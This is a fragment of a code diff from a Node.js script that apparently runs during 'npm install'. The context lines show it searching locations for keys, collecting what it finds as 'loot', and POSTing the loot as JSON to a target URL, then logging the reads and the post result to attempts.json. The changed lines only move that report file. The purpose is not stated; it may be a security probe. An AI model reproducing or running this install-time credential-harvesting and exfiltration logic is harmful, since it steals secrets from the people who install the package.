@@ -38,6 +38,6 @@ const reads = [...new Set(places)].map(lookForKey);
 const loot = reads.filter((read) => read.bytes !== undefined);
 const posted = { url: target.href, ...(await post(JSON.stringify(loot))) };
 
-// npm sets INIT_CWD to the folder in which the person typed `npm install`.
-const report = path.join(process.env.INIT_CWD ?? process.cwd(), "attempts.json");
+// Beside the project's package.json: npm links this folder, or copies it into node_modules; the way up is the same.
+const report = new URL("../../attempts.json", import.meta.url);
 writeFileSync(report, `${JSON.stringify({ reads, posted }, undefined, 2)}\n`);
